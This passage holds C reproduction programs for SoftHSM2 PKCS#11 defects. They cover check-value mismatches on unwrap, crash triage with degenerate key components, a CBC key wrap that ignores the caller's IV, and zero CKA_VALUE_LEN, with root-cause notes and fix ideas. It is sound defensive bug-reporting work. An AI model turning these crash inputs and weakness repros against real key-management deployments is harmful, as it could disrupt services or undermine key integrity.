	kl = sizeof k; if (rv == CKR_OK) get_attr(s, hU, CKA_CHECK_VALUE, k, &kl);
	printf("C_UnwrapKey without CKA_CHECK_VALUE in the template        -> 0x%lx, CKA_CHECK_VALUE has %lu bytes\n", rv, rv == CKR_OK ? kl : 0);

	CK_ATTRIBUTE u1[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktGeneric), A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue), { CKA_CHECK_VALUE, kcvAbc, 3 } };
	rv = F->C_UnwrapKey(s, &mech, hW, blob, bl, u1, 5, &hU);
	printf("C_UnwrapKey with the CORRECT CKA_CHECK_VALUE a9993e             -> 0x%lx (CKR_OK expected; 0x13 = CKR_ATTRIBUTE_VALUE_INVALID)\n", rv);
	rightRejectedGeneric = (rv != CKR_OK);

	CK_ATTRIBUTE u2[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktGeneric), A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue), { CKA_CHECK_VALUE, kcvEmpty, 3 } };
	hU = CK_INVALID_HANDLE;
	rv = F->C_UnwrapKey(s, &mech, hW, blob, bl, u2, 5, &hU);
	printf("C_UnwrapKey with the check value of the EMPTY string, da39a3  -> 0x%lx (an error expected)\n", rv);
	if (rv == CKR_OK)
	{
		CK_BYTE v[16]; CK_ULONG vl = sizeof v;
		get_attr(s, hU, CKA_VALUE, v, &vl);
		kl = sizeof k; get_attr(s, hU, CKA_CHECK_VALUE, k, &kl);
		hexdump("   unwrapped key CKA_VALUE      ", v, vl);
		hexdump("   unwrapped key CKA_CHECK_VALUE", k, kl);
		if (vl == 3 && !memcmp(v, abc, 3) && kl == 3 && memcmp(k, kcvAbc, 3) != 0)
		{
			printf("   -> the key \"abc\" now carries the check value da39a3 instead of a9993e\n");
			wrongStored = 1;
		}
	}

	/* ---- AES key 0^16 ---- */
	CK_BYTE zero[16] = { 0 }; CK_BYTE kcvZero[3] = { 0x66, 0xe9, 0x4b };
	CK_ATTRIBUTE aT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktAES), { CKA_VALUE, zero, 16 }, A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue) };
	CK_OBJECT_HANDLE hA;
	CHECK_SETUP(F->C_CreateObject(s, aT, 5, &hA));
	kl = sizeof k; CHECK_SETUP(get_attr(s, hA, CKA_CHECK_VALUE, k, &kl));
	hexdump("AES key 0^16 created with C_CreateObject, CKA_CHECK_VALUE", k, kl);
	bl = sizeof blob;
	CHECK_SETUP(F->C_WrapKey(s, &mech, hW, hA, blob, &bl));
	CK_ATTRIBUTE u3[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktAES), A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue), { CKA_CHECK_VALUE, kcvZero, 3 } };
	rv = F->C_UnwrapKey(s, &mech, hW, blob, bl, u3, 5, &hU);
	printf("C_UnwrapKey (AES) with the CORRECT CKA_CHECK_VALUE 66e94b       -> 0x%lx (CKR_OK expected)\n", rv);
	rightRejectedAes = (rv != CKR_OK);

	p11_cleanup();

	printf("\nproperty C13: unwrapping what C_WrapKey produced yields the key ... otherwise carrying the supplied template;\n"
	       "whenever a secret key carries a non-empty CKA_CHECK_VALUE, it is the standard check value for that key type and value.\n");
	if (wrongStored || rightRejectedGeneric || rightRejectedAes)
	{
		printf("observed: correct check value rejected (generic: %s, AES: %s); check value of the empty string accepted and stored: %s.\n"
		       "DEFECT REPRODUCED\n", rightRejectedGeneric ? "yes" : "no", rightRejectedAes ? "yes" : "no", wrongStored ? "yes" : "no");
		return 1;
	}
	printf("not reproduced\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) { printf("usage: %s <dir with libsofthsm2.so>\n", argv[0]); return 2; }
	int r = run_child(scenario, argv[1]);
	if (r >= 100) { printf("the scenario crashed\n"); return 2; }
	return r;
}
