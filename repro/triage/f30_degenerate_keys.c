/*
 * F30 triage driver: key objects one of whose components is EMPTY (zero length) or ABSENT.
 * C_CreateObject accepts them; OSSL::byteString2bn() yields NULL for an empty component and the
 * createOSSLKey() functions hand the NULL BIGNUMs to OpenSSL's set0 functions without looking at the
 * result.  Every (key family, degenerate component, operation) triple runs in a child process; the
 * parent records how the child ended.  Never part of a check.
 *
 * usage: f30_degenerate_keys <dir with libsofthsm2.so>     exit 1 = some child was killed, 0 = none
 */
#include "f30_common.h"
#include <sys/wait.h>

typedef struct { CK_ATTRIBUTE_TYPE t; CK_BYTE v[600]; CK_ULONG l; } comp_t;

static CK_BYTE junk(int i) { return (CK_BYTE)(0x9d + 37 * i) | 1; }
static void fill(comp_t* c, CK_ATTRIBUTE_TYPE t, CK_ULONG len) { c->t = t; c->l = len; for (CK_ULONG i = 0; i < len; i++) c->v[i] = junk((int)i); c->v[0] &= 0x7f; }

static CK_MECHANISM mech(CK_MECHANISM_TYPE t)
{
	static CK_RSA_PKCS_PSS_PARAMS pss = { CKM_SHA256, CKG_MGF1_SHA256, 32 };
	static CK_RSA_PKCS_OAEP_PARAMS oaep = { CKM_SHA_1, CKG_MGF1_SHA1, CKZ_DATA_SPECIFIED, NULL, 0 };
	CK_MECHANISM m = { t, NULL, 0 };
	if (t == CKM_RSA_PKCS_PSS || t == CKM_SHA256_RSA_PKCS_PSS) { m.pParameter = &pss; m.ulParameterLen = sizeof(pss); }
	if (t == CKM_RSA_PKCS_OAEP) { m.pParameter = &oaep; m.ulParameterLen = sizeof(oaep); }
	return m;
}

/* family: 0 RSA, 1 DSA, 2 DH, 3 EC, 4 ED */
static const char* famname[] = { "RSA", "DSA", "DH", "EC", "ED" };
static CK_KEY_TYPE famtype[] = { CKK_RSA, CKK_DSA, CKK_DH, CKK_EC, CKK_EC_EDWARDS };

static int build(CK_SESSION_HANDLE s, int fam, int priv, comp_t* c)
{
	int n = 0;
	if (fam == 0) {
		CK_OBJECT_HANDLE pub, prv;
		if (gen_rsa(s, CK_FALSE, 1024, &pub, &prv) != CKR_OK) exit(2);
		CK_ATTRIBUTE_TYPE pt[] = { CKA_MODULUS, CKA_PUBLIC_EXPONENT };
		CK_ATTRIBUTE_TYPE vt[] = { CKA_MODULUS, CKA_PUBLIC_EXPONENT, CKA_PRIVATE_EXPONENT, CKA_PRIME_1, CKA_PRIME_2, CKA_EXPONENT_1, CKA_EXPONENT_2, CKA_COEFFICIENT };
		CK_ATTRIBUTE_TYPE* tt = priv ? vt : pt; int k = priv ? 8 : 2;
		for (int i = 0; i < k; i++) {
			CK_ATTRIBUTE a = { tt[i], c[n].v, sizeof(c[n].v) };
			if (F->C_GetAttributeValue(s, priv ? prv : pub, &a, 1) != CKR_OK) { printf("cannot read component\n"); exit(2); }
			c[n].t = tt[i]; c[n].l = a.ulValueLen; n++;
		}
	} else if (fam == 1) {
		fill(&c[n++], CKA_PRIME, 128); fill(&c[n++], CKA_SUBPRIME, 20); fill(&c[n++], CKA_BASE, 128); fill(&c[n++], CKA_VALUE, priv ? 20 : 128);
	} else if (fam == 2) {
		fill(&c[n++], CKA_PRIME, 128); fill(&c[n++], CKA_BASE, 1); fill(&c[n++], CKA_VALUE, priv ? 32 : 128);
	} else {
		CK_OBJECT_HANDLE pub, prv;
		if ((fam == 3 ? gen_ec(s, CK_FALSE, &pub, &prv) : gen_ed(s, CK_FALSE, &pub, &prv)) != CKR_OK) exit(2);
		CK_ATTRIBUTE_TYPE pt[] = { CKA_EC_PARAMS, CKA_EC_POINT };
		CK_ATTRIBUTE_TYPE vt[] = { CKA_EC_PARAMS, CKA_VALUE };
		CK_ATTRIBUTE_TYPE* tt = priv ? vt : pt;
		for (int i = 0; i < 2; i++) {
			CK_ATTRIBUTE a = { tt[i], c[n].v, sizeof(c[n].v) };
			if (F->C_GetAttributeValue(s, priv ? prv : pub, &a, 1) != CKR_OK) { printf("cannot read component (fam %d)\n", fam); exit(2); }
			c[n].t = tt[i]; c[n].l = a.ulValueLen; n++;
		}
	}
	return n;
}

/* operations: returns the number of operations known for (fam, priv) */
static CK_MECHANISM_TYPE rsa_sig[] = { CKM_RSA_PKCS, CKM_RSA_X_509, CKM_RSA_PKCS_PSS, CKM_SHA256_RSA_PKCS, CKM_SHA256_RSA_PKCS_PSS };
static CK_MECHANISM_TYPE rsa_enc[] = { CKM_RSA_PKCS, CKM_RSA_X_509, CKM_RSA_PKCS_OAEP };

static int nops(int fam, int priv)
{
	switch (fam) {
	case 0: return priv ? 5 + 3 + 2 : 5 + 3 + 1;  /* sign.. decrypt.. wrapkey, unwrap-with | verify.. encrypt.. wrap-with */
	case 1: return priv ? 3 : 2;                    /* sign DSA, DSA_SHA1, wrapkey | verify x2 */
	case 2: return priv ? 2 : 0;                    /* derive, wrapkey */
	case 3: return priv ? 3 : 1;                    /* sign ECDSA, derive ECDH, wrapkey | verify */
	default: return priv ? 2 : 1;                   /* sign EDDSA, wrapkey | verify */
	}
}

static CK_OBJECT_HANDLE aes_key(CK_SESSION_HANDLE s) { return gen_aes(s, CK_FALSE, CK_FALSE, CK_TRUE); }

static CK_RV wrap_it(CK_SESSION_HANDLE s, CK_OBJECT_HANDLE h)
{
	CK_MECHANISM m = { CKM_AES_KEY_WRAP_PAD, NULL, 0 };
	CK_BYTE out[4096]; CK_ULONG ol = sizeof(out);
	return F->C_WrapKey(s, &m, aes_key(s), h, out, &ol);
}

static CK_RV run_op(CK_SESSION_HANDLE s, int fam, int priv, int op, CK_OBJECT_HANDLE h, char* what)
{
	CK_BYTE in[256], out[4096]; CK_ULONG ol = sizeof(out); CK_RV rv;
	memset(in, 0x11, sizeof(in)); in[0] = 0;
	CK_OBJECT_CLASS cSec = CKO_SECRET_KEY; CK_KEY_TYPE kGen = CKK_GENERIC_SECRET, kAES = CKK_AES;
	if (fam == 0 && op < 5) {
		CK_MECHANISM m = mech(rsa_sig[op]); CK_ULONG il = op == 1 ? 128 : op == 2 ? 32 : 20;
		sprintf(what, "%s mech 0x%lx", priv ? "C_Sign" : "C_Verify", rsa_sig[op]);
		if (priv) { rv = F->C_SignInit(s, &m, h); if (rv == CKR_OK) rv = F->C_Sign(s, in, il, out, &ol); }
		else { rv = F->C_VerifyInit(s, &m, h); if (rv == CKR_OK) rv = F->C_Verify(s, in, il, in, 128); }
		return rv;
	}
	if (fam == 0 && op < 8) {
		CK_MECHANISM m = mech(rsa_enc[op - 5]);
		sprintf(what, "%s mech 0x%lx", priv ? "C_Decrypt" : "C_Encrypt", rsa_enc[op - 5]);
		if (priv) { rv = F->C_DecryptInit(s, &m, h); if (rv == CKR_OK) rv = F->C_Decrypt(s, in, 128, out, &ol); }
		else { rv = F->C_EncryptInit(s, &m, h); if (rv == CKR_OK) rv = F->C_Encrypt(s, in, op == 6 ? 128 : 16, out, &ol); }
		return rv;
	}
	if (fam == 0 && op == 8 && !priv) {
		CK_MECHANISM m = mech(CKM_RSA_PKCS); sprintf(what, "C_WrapKey(AES key) under it");
		return F->C_WrapKey(s, &m, h, aes_key(s), out, &ol);
	}
	if (fam == 0 && op == 9) {
		CK_MECHANISM m = mech(CKM_RSA_PKCS); CK_OBJECT_HANDLE nk; sprintf(what, "C_UnwrapKey with it");
		CK_ATTRIBUTE t[] = { ATTR(CKA_CLASS, cSec), ATTR(CKA_KEY_TYPE, kAES) };
		return F->C_UnwrapKey(s, &m, h, in, 128, t, 2, &nk);
	}
	if (priv && op == nops(fam, priv) - 1 + (fam == 0 ? -1 : 0)) { sprintf(what, "C_WrapKey of it (PKCS#8)"); return wrap_it(s, h); }
	if (fam == 1) {
		CK_MECHANISM m = mech(op == 0 ? CKM_DSA : CKM_DSA_SHA1);
		sprintf(what, "%s mech 0x%lx", priv ? "C_Sign" : "C_Verify", m.mechanism);
		if (priv) { rv = F->C_SignInit(s, &m, h); if (rv == CKR_OK) rv = F->C_Sign(s, in, 20, out, &ol); }
		else { rv = F->C_VerifyInit(s, &m, h); if (rv == CKR_OK) rv = F->C_Verify(s, in, 20, in, 40); }
		return rv;
	}
	if (fam == 2) {
		CK_MECHANISM m = { CKM_DH_PKCS_DERIVE, in, 128 }; CK_OBJECT_HANDLE nk; sprintf(what, "C_DeriveKey(CKM_DH_PKCS_DERIVE)");
		CK_ATTRIBUTE t[] = { ATTR(CKA_CLASS, cSec), ATTR(CKA_KEY_TYPE, kGen) };
		return F->C_DeriveKey(s, &m, h, t, 2, &nk);
	}
	if (fam == 3 && priv && op == 1) {
		CK_BYTE pt[65]; memset(pt, 0x22, sizeof(pt)); pt[0] = 4;
		CK_ECDH1_DERIVE_PARAMS p = { CKD_NULL, 0, NULL, sizeof(pt), pt };
		CK_MECHANISM m = { CKM_ECDH1_DERIVE, &p, sizeof(p) }; CK_OBJECT_HANDLE nk; sprintf(what, "C_DeriveKey(CKM_ECDH1_DERIVE)");
		CK_ATTRIBUTE t[] = { ATTR(CKA_CLASS, cSec), ATTR(CKA_KEY_TYPE, kGen) };
		return F->C_DeriveKey(s, &m, h, t, 2, &nk);
	}
	{
		CK_MECHANISM m = mech(fam == 3 ? CKM_ECDSA : CKM_EDDSA);
		sprintf(what, "%s mech 0x%lx", priv ? "C_Sign" : "C_Verify", m.mechanism);
		if (priv) { rv = F->C_SignInit(s, &m, h); if (rv == CKR_OK) rv = F->C_Sign(s, in, 32, out, &ol); }
		else { rv = F->C_VerifyInit(s, &m, h); if (rv == CKR_OK) rv = F->C_Verify(s, in, 32, in, 64); }
		return rv;
	}
}

static int child(const char* libdir, int fam, int priv, int comp, int mode, int op)
{
	setup(libdir);
	init_token();
	CK_SESSION_HANDLE s = open_rw(); login_user(s);
	static comp_t c[10];
	int n = build(s, fam, priv, c);
	CK_OBJECT_CLASS cls = priv ? CKO_PRIVATE_KEY : CKO_PUBLIC_KEY; CK_KEY_TYPE kt = famtype[fam];
	CK_ATTRIBUTE t[24]; int k = 0;
	t[k++] = (CK_ATTRIBUTE) ATTR(CKA_CLASS, cls); t[k++] = (CK_ATTRIBUTE) ATTR(CKA_KEY_TYPE, kt);
	if (priv) {
		if (fam != 2) t[k++] = (CK_ATTRIBUTE) ATTR(CKA_SIGN, bTrue);
		if (fam == 0) { t[k++] = (CK_ATTRIBUTE) ATTR(CKA_DECRYPT, bTrue); t[k++] = (CK_ATTRIBUTE) ATTR(CKA_UNWRAP, bTrue); }
		if (fam == 2 || fam == 3) t[k++] = (CK_ATTRIBUTE) ATTR(CKA_DERIVE, bTrue);
		t[k++] = (CK_ATTRIBUTE) ATTR(CKA_EXTRACTABLE, bTrue); t[k++] = (CK_ATTRIBUTE) ATTR(CKA_SENSITIVE, bFalse);
	} else {
		t[k++] = (CK_ATTRIBUTE) ATTR(CKA_VERIFY, bTrue);
		if (fam == 0) { t[k++] = (CK_ATTRIBUTE) ATTR(CKA_ENCRYPT, bTrue); t[k++] = (CK_ATTRIBUTE) ATTR(CKA_WRAP, bTrue); }
	}
	for (int i = 0; i < n; i++) {
		if (i == comp && mode == 1) continue;                    /* absent */
		CK_ATTRIBUTE a = { c[i].t, c[i].v, (i == comp) ? 0 : c[i].l };   /* empty */
		t[k++] = a;
	}
	CK_OBJECT_HANDLE h; CK_RV rv = F->C_CreateObject(s, t, k, &h);
	if (rv != CKR_OK) { printf("create rv=0x%lx ", rv); return 10; }
	char what[128] = "";
	rv = run_op(s, fam, priv, op, h, what);
	printf("%s rv=0x%lx ", what, rv);
	F->C_Finalize(NULL);
	return 0;
}

int main(int argc, char** argv)
{
	if (argc < 2) { printf("usage: %s <libdir> [fam]\n", argv[0]); return 2; }
	setvbuf(stdout, NULL, _IONBF, 0);
	int killed = 0, total = 0;
	if (argc == 7) {   /* one case in this process (for a debugger): libdir fam priv comp mode op */
		char dir[64] = "/tmp/wthC-XXXXXX"; if (!mkdtemp(dir)) return 2; setenv("WTHC_DIR", dir, 1);
		return child(argv[1], atoi(argv[2]), atoi(argv[3]), atoi(argv[4]), atoi(argv[5]), atoi(argv[6]));
	}
	for (int fam = 0; fam < 5; fam++) for (int priv = 1; priv >= 0; priv--) {
		if (argc > 2 && atoi(argv[2]) != fam) continue;
		int ncomp = fam == 0 ? (priv ? 8 : 2) : fam == 1 ? 4 : fam == 2 ? 3 : 2;
		for (int comp = 0; comp < ncomp; comp++) for (int mode = 0; mode < 2; mode++) for (int op = 0; op < nops(fam, priv); op++) {
			char dir[64] = "/tmp/wthC-XXXXXX", cmd[128];
			if (!mkdtemp(dir)) { perror("mkdtemp"); return 2; }
			setenv("WTHC_DIR", dir, 1);
			printf("%s %s comp#%d %s op#%d: ", famname[fam], priv ? "private" : "public", comp, mode ? "absent" : "empty", op);
			pid_t pid = fork();
			if (pid == 0) { _exit(child(argv[1], fam, priv, comp, mode, op)); }
			int st = 0; waitpid(pid, &st, 0); total++;
			snprintf(cmd, sizeof(cmd), "rm -rf %s", dir); if (system(cmd)) {}
			if (WIFSIGNALED(st)) { printf("=> KILLED BY SIGNAL %d\n", WTERMSIG(st)); killed++; }
			else if (WEXITSTATUS(st) == 0 || WEXITSTATUS(st) == 10) printf("=> ok\n");
			else if (WEXITSTATUS(st) == 2) printf("=> set-up problem\n");
			else { printf("=> PROCESS TERMINATED status %d\n", WEXITSTATUS(st)); killed++; }
		}
	}
	printf("%d cases, %d killed\n", total, killed);
	return killed ? 1 : 0;
}
