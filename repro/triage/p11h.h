/* Small helper layer for the replay programs (no dependency besides libdl). */
#ifndef P11H_H
#define P11H_H
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dlfcn.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include "cryptoki.h"

static CK_FUNCTION_LIST_PTR F;
static CK_SLOT_ID g_slot;
static char g_dir[256];
static const char *SOPIN = "12345678";
static const char *USERPIN = "123456";

#define SETUP_FAIL 2
#define CHECK_SETUP(call) do { CK_RV _rv = (call); if (_rv != CKR_OK) { \
	printf("SET-UP PROBLEM: %s -> 0x%lx (line %d)\n", #call, (unsigned long)_rv, __LINE__); exit(SETUP_FAIL); } } while (0)

static void hexdump(const char *label, const unsigned char *p, size_t n)
{
	printf("%s (%zu bytes): ", label, n);
	for (size_t i = 0; i < n; i++) printf("%02x", p[i]);
	printf("\n");
}

/* extra: extra lines for softhsm2.conf (may be NULL) */
static void p11_setup(const char *libdir, const char *extra)
{
	char path[512];
	snprintf(g_dir, sizeof g_dir, "/tmp/hsmrepro-XXXXXX");
	if (!mkdtemp(g_dir)) { perror("mkdtemp"); exit(SETUP_FAIL); }
	snprintf(path, sizeof path, "%s/tokens", g_dir);
	mkdir(path, 0700);
	snprintf(path, sizeof path, "%s/softhsm2.conf", g_dir);
	FILE *f = fopen(path, "w");
	if (!f) { perror("conf"); exit(SETUP_FAIL); }
	fprintf(f, "directories.tokendir = %s/tokens\nobjectstore.backend = file\nlog.level = ERROR\nslots.removable = false\n", g_dir);
	if (extra) fprintf(f, "%s\n", extra);
	fclose(f);
	setenv("SOFTHSM2_CONF", path, 1);

	snprintf(path, sizeof path, "%s/libsofthsm2.so", libdir);
	void *h = dlopen(path, RTLD_NOW | RTLD_LOCAL);
	if (!h) { printf("SET-UP PROBLEM: dlopen %s: %s\n", path, dlerror()); exit(SETUP_FAIL); }
	CK_C_GetFunctionList gfl = (CK_C_GetFunctionList)dlsym(h, "C_GetFunctionList");
	if (!gfl) { printf("SET-UP PROBLEM: no C_GetFunctionList\n"); exit(SETUP_FAIL); }
	CHECK_SETUP(gfl(&F));
	CHECK_SETUP(F->C_Initialize(NULL));
	CK_SLOT_ID slots[8]; CK_ULONG n = 8;
	CHECK_SETUP(F->C_GetSlotList(CK_FALSE, slots, &n));
	if (n < 1) { printf("SET-UP PROBLEM: no slot\n"); exit(SETUP_FAIL); }
	g_slot = slots[0];
	CK_UTF8CHAR label[32]; memset(label, ' ', 32); memcpy(label, "repro", 5);
	CHECK_SETUP(F->C_InitToken(g_slot, (CK_UTF8CHAR_PTR)SOPIN, strlen(SOPIN), label));
	CK_SESSION_HANDLE s;
	CHECK_SETUP(F->C_OpenSession(g_slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &s));
	CHECK_SETUP(F->C_Login(s, CKU_SO, (CK_UTF8CHAR_PTR)SOPIN, strlen(SOPIN)));
	CHECK_SETUP(F->C_InitPIN(s, (CK_UTF8CHAR_PTR)USERPIN, strlen(USERPIN)));
	CHECK_SETUP(F->C_Logout(s));
	CHECK_SETUP(F->C_CloseSession(s));
}

static void p11_cleanup(void)
{
	char cmd[512];
	if (F) F->C_Finalize(NULL);
	if (g_dir[0]) { snprintf(cmd, sizeof cmd, "rm -rf '%s'", g_dir); if (system(cmd)) {} }
}

static CK_SESSION_HANDLE open_rw(void)
{
	CK_SESSION_HANDLE s;
	CHECK_SETUP(F->C_OpenSession(g_slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &s));
	return s;
}
static CK_SESSION_HANDLE open_ro(void)
{
	CK_SESSION_HANDLE s;
	CHECK_SETUP(F->C_OpenSession(g_slot, CKF_SERIAL_SESSION, NULL, NULL, &s));
	return s;
}
static void login_user(CK_SESSION_HANDLE s) { CHECK_SETUP(F->C_Login(s, CKU_USER, (CK_UTF8CHAR_PTR)USERPIN, strlen(USERPIN))); }
static void login_so(CK_SESSION_HANDLE s) { CHECK_SETUP(F->C_Login(s, CKU_SO, (CK_UTF8CHAR_PTR)SOPIN, strlen(SOPIN))); }

static CK_BBOOL ckTrue = CK_TRUE, ckFalse = CK_FALSE;

/* read one attribute into buf; returns rv, *len = returned ulValueLen */
static CK_RV get_attr(CK_SESSION_HANDLE s, CK_OBJECT_HANDLE o, CK_ATTRIBUTE_TYPE t, void *buf, CK_ULONG *len)
{
	CK_ATTRIBUTE a = { t, buf, *len };
	CK_RV rv = F->C_GetAttributeValue(s, o, &a, 1);
	*len = a.ulValueLen;
	return rv;
}
static int get_bool(CK_SESSION_HANDLE s, CK_OBJECT_HANDLE o, CK_ATTRIBUTE_TYPE t)
{
	CK_BBOOL b = 0x55; CK_ULONG l = sizeof b;
	CK_RV rv = get_attr(s, o, t, &b, &l);
	if (rv != CKR_OK) return -1;
	return b ? 1 : 0;
}
static CK_ULONG get_ulong(CK_SESSION_HANDLE s, CK_OBJECT_HANDLE o, CK_ATTRIBUTE_TYPE t)
{
	CK_ULONG v = 0xdeadbeef; CK_ULONG l = sizeof v;
	CK_RV rv = get_attr(s, o, t, &v, &l);
	if (rv != CKR_OK) return 0xdeadbeef;
	return v;
}

/* run a scenario in a child process; returns its exit status (0..255) or 100+signal on a crash */
static int run_child(int (*fn)(const char *libdir), const char *libdir)
{
	fflush(stdout);
	pid_t pid = fork();
	if (pid < 0) { perror("fork"); exit(SETUP_FAIL); }
	if (pid == 0) { int r = fn(libdir); fflush(stdout); _exit(r); }
	int st = 0;
	waitpid(pid, &st, 0);
	if (WIFSIGNALED(st)) { printf("child terminated by signal %d\n", WTERMSIG(st)); return 100 + WTERMSIG(st); }
	return WEXITSTATUS(st);
}
#endif
