/* F14: C_WrapKey(CKM_AES_CBC / CKM_DES3_CBC) ignores the caller's IV: WrapKeySym leaves blocksize 0 for the unpadded CBC mechanisms, copies 0 bytes of
 * pParameter into the IV and the cipher then runs with an all-zero IV.  Compare with C_Encrypt(CKM_AES_CBC, same IV) of the same 32 bytes.
 * Needs a token from ./replay setup (user PIN 1234). */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <dlfcn.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
static void hex(const char*t,CK_BYTE*b,CK_ULONG n){ printf("%s",t); for(CK_ULONG i=0;i<n;i++) printf("%02x",b[i]); printf("\n"); }
int main(){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());return 2;}
 CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); CK(p->C_Initialize(NULL));
 CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); CK_SESSION_HANDLE s; CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_BBOOL T=CK_TRUE,F=CK_FALSE; CK_OBJECT_CLASS kc=CKO_SECRET_KEY; CK_KEY_TYPE kt=CKK_AES; CK_BYTE kek[16],val[32]; memset(kek,0x5a,16); for(int i=0;i<32;i++) val[i]=i;
 CK_ATTRIBUTE tk[]={{CKA_CLASS,&kc,sizeof kc},{CKA_KEY_TYPE,&kt,sizeof kt},{CKA_TOKEN,&F,1},{CKA_VALUE,kek,16},{CKA_WRAP,&T,1},{CKA_ENCRYPT,&T,1}}; CK_OBJECT_HANDLE hkek; CK(p->C_CreateObject(s,tk,6,&hkek));
 CK_ATTRIBUTE tv[]={{CKA_CLASS,&kc,sizeof kc},{CKA_KEY_TYPE,&kt,sizeof kt},{CKA_TOKEN,&F,1},{CKA_VALUE,val,32},{CKA_EXTRACTABLE,&T,1},{CKA_SENSITIVE,&F,1}}; CK_OBJECT_HANDLE hval; CK(p->C_CreateObject(s,tv,6,&hval));
 CK_BYTE iv[16]; memset(iv,0x11,16); CK_BYTE zero[16]={0}; CK_MECHANISM m={CKM_AES_CBC,iv,16}, mz={CKM_AES_CBC,zero,16};
 CK_BYTE w[64],e1[64],e0[64]; CK_ULONG wl=sizeof w,l1=sizeof e1,l0=sizeof e0;
 CK(p->C_WrapKey(s,&m,hkek,hval,w,&wl));
 CK(p->C_EncryptInit(s,&m,hkek)); CK(p->C_Encrypt(s,val,32,e1,&l1));
 CK(p->C_EncryptInit(s,&mz,hkek)); CK(p->C_Encrypt(s,val,32,e0,&l0));
 hex("C_WrapKey(CKM_AES_CBC, iv=11..11)   = ",w,wl); hex("C_Encrypt(CKM_AES_CBC, iv=11..11)   = ",e1,l1); hex("C_Encrypt(CKM_AES_CBC, iv=00..00)   = ",e0,l0);
 int bad = !(wl==l1 && !memcmp(w,e1,wl)); printf("%s\n", bad ? (wl==l0&&!memcmp(w,e0,wl) ? "BROKEN: the wrapped blob is CBC under an all-zero IV, the caller's IV was ignored" : "BROKEN: blob differs from CBC under the caller's IV") : "blob is CBC under the caller's IV"); return bad; }
