/*
 * Defect 5: secret keys made by C_UnwrapKey and (without CKA_VALUE_LEN in the
 * template) by C_DeriveKey lie about their length - CKA_VALUE_LEN is 0 - and
 * C_UnwrapKey does not check the unwrapped length against the key type at all.
 *
 *  a) AES-256 key wrapped with CKM_AES_KEY_WRAP and unwrapped again as CKK_AES:
 *     works as an AES-256 key, CKA_VALUE has 32 bytes, but CKA_VALUE_LEN reads 0
 *     (and CKA_CHECK_VALUE is empty).  CKA_VALUE_LEN cannot be put into the unwrap
 *     template either (CKR_ATTRIBUTE_READ_ONLY), so there is no way to get it right.
 *  b) C_DeriveKey(CKM_ECDH1_DERIVE) into CKK_GENERIC_SECRET or CKK_AES without
 *     CKA_VALUE_LEN (explicitly allowed by the code: "byteLen == 0 implies return max
 *     size") and C_DeriveKey(CKM_CONCATENATE_BASE_AND_DATA): value has 32 / 48
 *     bytes, CKA_VALUE_LEN reads 0.
 *  c) a 40 byte generic secret unwrapped with { CKA_KEY_TYPE = CKK_AES } (or CKK_DES3):
 *     C_UnwrapKey returns CKR_OK and leaves an "AES key" with a 40 byte value behind
 *     that no mechanism accepts (C_EncryptInit -> CKR_MECHANISM_INVALID); the same
 *     length is refused by C_DeriveKey (CKR_ATTRIBUTE_VALUE_INVALID) and by the
 *     key generation.  Expected: CKR_WRAPPED_KEY_INVALID / CKR_KEY_SIZE_RANGE and no object.
 *
 * Root cause: only P11AttrValue::updateAttr() (P11Attributes.cpp:977-994) keeps
 * CKA_VALUE_LEN in step with CKA_VALUE, and only for OBJECT_OP_CREATE / OBJECT_OP_UNWRAP
 * - but C_UnwrapKey never goes through it: SoftHSM.cpp:7241-7249 stores the unwrapped
 * bytes with a bare osobject->setAttribute(CKA_VALUE, value) (no length check, no
 * CKA_VALUE_LEN, no CKA_CHECK_VALUE), and the template may not carry CKA_VALUE_LEN
 * because P11AESSecretKeyObj / P11GenericSecretKeyObj mark it ck6 (P11Objects.cpp:1627)
 * and P11AttrValueLen::updateAttr() (P11Attributes.cpp:2280-2299) refuses every op but
 * GENERATE and DERIVE.  So the attribute keeps its default 0 (P11Attributes.cpp:2273).
 * The derive functions do the same: deriveDH (SoftHSM.cpp:10658), deriveECDH (10995),
 * deriveEDDSA (11333), deriveSymmetric (11910) set CKA_VALUE only; CKA_VALUE_LEN is
 * whatever the template said, i.e. 0 when it was left out.
 * Fix idea: in C_UnwrapKey (secret key branch) call checkKeyLength(keyType, keydata.size())
 * (SoftHSM.cpp:305) and fail with CKR_WRAPPED_KEY_INVALID; in C_UnwrapKey and in the four
 * derive functions, next to setAttribute(CKA_VALUE, ...), do
 *     if (osobject->attributeExists(CKA_VALUE_LEN)) osobject->setAttribute(CKA_VALUE_LEN, (unsigned long) plain.size());
 * and compute CKA_CHECK_VALUE for the unwrapped key as the other paths do.
 *
 * usage: repro <dir with libsofthsm2.so>      exit 1 = reproduced, 0 = not
 */
#include "common.h"

static CK_SESSION_HANDLE s;
static int reproduced = 0;

static void check(const char* what, CK_OBJECT_HANDLE h)
{
	CK_ULONG vl = 777; CK_BYTE v[128], kcv[8];
